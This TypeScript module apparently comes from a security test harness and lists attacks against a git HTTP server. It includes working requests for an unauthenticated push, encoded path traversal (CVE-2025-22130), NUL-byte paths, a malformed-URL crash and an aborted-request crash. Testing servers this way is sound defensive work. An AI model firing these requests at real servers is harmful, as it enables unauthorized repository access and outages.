import { type Attack, fell, type Surface, stood } from './attack.ts';
import { basic, pushOf, receivePack, requestOf, speak, statusOf, uploadPack } from './http-bytes.ts';
import { floods } from './http-floods.ts';
import { smuggling } from './http-smuggling.ts';
import { left, refsOf } from './look.ts';
import type { Victim } from './victim.ts';

const info = (path: string, service = 'git-upload-pack') => `${path}/info/refs?service=${service}`;

async function afterwards(victim: Victim, answer: string) {
  // Not its process alone: that of one which ends is there for some moments more.
  const serves = await victim.serves();
  const seen = `${statusOf(answer)}, ${serves ? 'and lives' : 'its process has ended'}`;
  return serves ? stood(seen) : fell(seen);
}

const attacks: readonly Attack[] = [
  {
    incident: 'node-git-server 1.0.0: only GET /info/refs asks authenticate()',
    what: 'a push by POST without the request before it, and without credentials',
    async attempt(victim) {
      const ref = 'refs/heads/stolen';
      const body = pushOf(ref, victim.main);
      const target = `${victim.path}/git-receive-pack`;
      const answer = await speak(victim, requestOf({ method: 'POST', target, headers: [receivePack], body }));
      const created = (await refsOf(victim)).includes(ref);
      return created ? fell(`${statusOf(answer)}, the branch is there`) : stood(`${statusOf(answer)}, no branch`);
    },
  },
  {
    incident: 'node-git-server 1.0.0: the example of its README guards a push alone',
    what: 'the refs, for somebody without credentials',
    async attempt(victim) {
      const answer = await speak(victim, requestOf({ target: info(victim.path) }));
      return answer.includes(victim.main) ? fell('lists them') : stood(statusOf(answer));
    },
  },
  {
    incident: 'node-git-server 1.0.0: parseGitName() ends at the last .git',
    what: "a token of 'app' for the repository 'app.git-private'",
    async attempt(victim) {
      const target = info(`${victim.path}.git-private`, 'git-receive-pack');
      const answer = await speak(victim, requestOf({ target, headers: [basic(victim.token)] }));
      return statusOf(answer) === '200' ? fell('200, offers to push to it') : stood(statusOf(answer));
    },
  },
  {
    incident: 'CVE-2025-22130 (Soft Serve)',
    what: 'out of the own folder by an encoded ..',
    async attempt(victim) {
      const path = `${victim.path}/%2e%2e/%2e%2e${victim.other.path}`;
      const answer = await speak(victim, requestOf({ target: info(path), headers: [basic(victim.token)] }));
      return answer.includes(victim.main) ? fell('lists the refs of another one') : stood(statusOf(answer));
    },
  },
  {
    incident: 'CWE-626: a NUL in a path',
    what: 'a name with %00 in it',
    async attempt(victim) {
      return afterwards(victim, await speak(victim, requestOf({ target: info(`${victim.path}%00x`) })));
    },
  },
  {
    incident: 'node-git-server 1.0.0: url.parse() of req.url throws',
    what: 'a request target that is a broken URL',
    async attempt(victim) {
      return afterwards(victim, await speak(victim, requestOf({ target: 'http://[/a' })));
    },
  },
  {
    incident: 'node-git-server 1.0.0: a GET creates a repository (autoCreate)',
    what: 'a repository on the disk, made by somebody without credentials',
    async attempt(victim) {
      const answer = await speak(victim, requestOf({ target: info(`/${'made-by-a-stranger'}/x`) }));
      const found = left(victim, 'made-by-a-stranger').length > 0;
      return found ? fell(`${statusOf(answer)}, it is there`) : stood(`${statusOf(answer)}, nothing is there`);
    },
  },
  {
    incident: 'node-git-server 1.0.0: HttpDuplex emits an error that nobody hears',
    what: 'a client that leaves in the middle of its request',
    async attempt(victim) {
      const head = requestOf({ method: 'POST', target: `${victim.path}/git-upload-pack`, headers: [uploadPack] });
      const promised = head
        .toString()
        .replace('\r\n\r\n', `\r\n${basic(victim.token)}\r\nContent-Length: 1000\r\n\r\n`);
      const socket = await victim.connectHttp();
      socket.on('error', () => {}).write(`${promised}0032want ${victim.main}\n`);
      socket.destroySoon();
      // It has heard of that end when it answers another request, or when it is dead.
      return afterwards(victim, await speak(victim, requestOf({ target: '/nothing/HEAD' })).catch(() => ''));
    },
  },
];

export const http: Surface = { name: 'http', attacks: [...attacks, ...smuggling, ...floods] };
